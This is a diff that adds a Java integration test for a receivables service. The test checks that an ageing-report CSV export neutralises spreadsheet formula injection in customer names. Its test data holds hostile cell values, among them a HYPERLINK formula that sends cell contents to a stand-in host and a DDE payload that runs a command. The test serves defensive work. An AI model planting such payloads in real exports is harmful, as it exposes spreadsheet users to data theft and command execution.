@@ -133,6 +133,33 @@ class CollectionsPostgresIT extends PostgresIntegrationTest {
 	}
 
 	@Test
+	void writesACustomersNameIntoAgeingCsvAsTextASpreadsheetDoesNotRun() {
+		// given customers whose names a spreadsheet would take for formulas
+		TestUsers.ensure(this.identityService, "fiona", Roles.FINANCE);
+		CustomerFixture customers = new CustomerFixture(this.jdbc);
+		Map<String, String> names = new java.util.LinkedHashMap<>();
+		names.put("=HYPERLINK(\"http://x.example/?\"&A1,\"付款\")",
+				"\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"付款\"\")\"");
+		names.put("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0");
+		names.put("+86 公司", "'+86 公司");
+		names.put("-2+3", "'-2+3");
+		names.put("\t=1+1", "'\t=1+1");
+		names.put("第一行\r=1+1", "\"第一行\r=1+1\"");
+		for (String name : names.keySet()) {
+			long customer = customers.customer("T01");
+			this.jdbc.update("update customer set name = ? where id = ?", name, customer);
+			invoice(customer, "100.00", TestClock.today().plusDays(30));
+		}
+
+		// when
+		String csv = new Http(this.port).as("fiona").get("/api/receivables/ageing?format=csv").body();
+
+		// then each name is one cell, read as text
+		names.forEach((name, cell) -> assertThat(csv).as(name).contains("," + cell + ","));
+		assertThat(csv).doesNotContain(",=").doesNotContain(",@").doesNotContain(",+").doesNotContain(",\t");
+	}
+
+	@Test
 	void keepsAPaymentForAnUnknownCustomerForFinanceToAllocate() {
 		// given
 		TestUsers.ensure(this.identityService, "fiona", Roles.FINANCE);
